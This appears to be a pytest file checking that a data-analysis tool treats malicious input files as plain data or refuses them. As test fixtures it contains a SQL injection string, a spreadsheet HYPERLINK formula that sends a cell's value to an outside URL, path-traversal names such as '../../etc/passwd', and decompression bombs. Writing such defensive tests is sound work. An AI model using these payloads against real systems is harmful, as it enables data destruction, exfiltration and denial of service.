"""Files that mean harm, or look like it: what they hold is data, what is too large is refused before it is unpacked."""

import gzip
import io
import time
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from pilots import command, config
from small_logs import found, log, open_log

from pilot_analysis import load_config
from pilot_analysis.refusal import Refusal

SQL = 'x"); DROP TABLE contacts; --'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1)'


def test_sql_in_a_name_and_in_a_cell_is_text(tmp_path: Path) -> None:
    rows = log({SQL: "'; DROP TABLE contacts; --"})
    table = found(open_log(tmp_path, rows, data__columns={"category": SQL}, design={"segments": [SQL]}))
    assert table.category["a1"] == "'; DROP TABLE contacts; --"
    assert len(table) == len(rows)


def test_a_formula_is_text_in_a_csv_and_its_value_in_a_workbook(tmp_path: Path) -> None:
    table = found(open_log(tmp_path, log({"category": FORMULA})))
    assert table.category["a1"] == FORMULA
    rows = log({"category": "x"})
    rows.to_excel(tmp_path / "c.xlsx", index=False)
    book = load_workbook(tmp_path / "c.xlsx")
    book.active["D2"] = "=1+1"  # never computed: saved by a program, so there is no value
    book.save(tmp_path / "c.xlsx")
    table = found(open_log(tmp_path, None, data__contacts="c.xlsx"), "category")
    assert pd.isna(table.category["a1"])


@pytest.mark.parametrize("kind", ["csv.gz", "xlsx"])
def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, kind: str) -> None:
    """Thirty megabytes of nothing in thirty kilobytes, and a limit of ten."""
    nothing = b"0" * 30_000_000
    buffer = io.BytesIO()
    if kind == "xlsx":
        with ZipFile(buffer, "w", ZIP_DEFLATED) as archive:
            archive.writestr("xl/worksheets/sheet1.xml", nothing)
    else:
        buffer.write(gzip.compress(b"contact_id,opened_at\n" + nothing))
    (tmp_path / f"c.{kind}").write_bytes(buffer.getvalue())
    begun = time.process_time()
    with pytest.raises(Refusal, match="too large once unpacked") as refused:
        open_log(tmp_path, None, data__contacts=f"c.{kind}", data__largest_gb=0.01)
    assert refused.value.key == "data.largest_gb"
    assert time.process_time() - begun < 5


@pytest.mark.parametrize("values", [["x" * 1000] * 20_000, ["x"] * 12_000_000], ids=["long values", "many rows"])
def test_a_parquet_file_that_packs_much_into_little(tmp_path: Path, values: list[str]) -> None:
    """Twenty megabytes of one text, and twelve million rows of one letter, in some kilobytes each; ten are allowed."""
    columns = {"contact_id": values}
    pq.write_table(
        pa.table(columns), tmp_path / "c.parquet", use_dictionary=len(values) > 1_000_000, compression="zstd"
    )
    assert (tmp_path / "c.parquet").stat().st_size < 100_000
    with pytest.raises(Refusal, match="too large once unpacked") as refused:
        open_log(tmp_path, None, data__contacts="c.parquet", data__largest_gb=0.01)
    assert refused.value.key == "data.largest_gb"


def test_several_gzip_members_are_measured_together(tmp_path: Path) -> None:
    packed = gzip.compress(b"a,b\n") + gzip.compress(b"0" * 6_000_000) * 2
    (tmp_path / "c.csv.gz").write_bytes(packed)
    with pytest.raises(Refusal, match="too large once unpacked"):
        open_log(tmp_path, None, data__contacts="c.csv.gz", data__largest_gb=0.01)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_line_without_end_is_refused(tmp_path: Path, encoding: str) -> None:
    endless = log({}).to_csv(index=False) + "x" * 5_000_000
    with pytest.raises(Refusal, match="cannot be read"):
        open_log(tmp_path, endless.encode(encoding))


@pytest.mark.parametrize("kind", ["csv", "csv.gz"])
def test_a_last_line_without_end_is_refused_and_not_dropped(tmp_path: Path, kind: str) -> None:
    """Beyond its buffer the engine forgets such a line without a word."""
    endless = log({}).to_csv(index=False).encode() + b"x" * 40_000_000
    (tmp_path / f"c.{kind}").write_bytes(gzip.compress(endless, 1) if kind.endswith("gz") else endless)
    with pytest.raises(Refusal, match="cannot be read") as refused:
        open_log(tmp_path, None, data__contacts=f"c.{kind}")
    assert "a last line beyond 2,000,000 bytes" in str(refused.value.found)


def test_mixed_line_ends_are_refused_with_their_reason(tmp_path: Path) -> None:
    lines = log({}, {}).to_csv(index=False).splitlines()
    mixed = lines[0] + "\r\n" + lines[1] + "\n" + "\r".join(lines[2:]) + "\r"
    with pytest.raises(Refusal) as refused:
        open_log(tmp_path, mixed)
    assert "line end" in str(refused.value.allowed)


@pytest.mark.parametrize("slug", ["../out", "a/b", "/etc", "..", "A", "a\n"])
def test_a_slug_does_not_climb(slug: str) -> None:
    with pytest.raises(Refusal) as refused:
        load_config(config(report__slug=slug))
    assert refused.value.key == "report.slug"


def test_a_name_makes_no_path() -> None:
    assert load_config(config(pilot__name="../../etc/passwd")).slug == "etc-passwd"


@pytest.mark.parametrize("content", [b"PK\x03\x04 and no more", b"", b"\x1f\x8b\x08"])
def test_init_refuses_what_is_no_log(tmp_path: Path, content: bytes) -> None:
    for kind in ("xlsx", "csv.gz", "jsonl", "csv"):
        (tmp_path / f"c.{kind}").write_bytes(content)
        called = command("init", tmp_path / f"c.{kind}")
        assert called.code == 2
        assert "Traceback" not in called.err
    assert not (tmp_path / "pilot.yaml").exists()
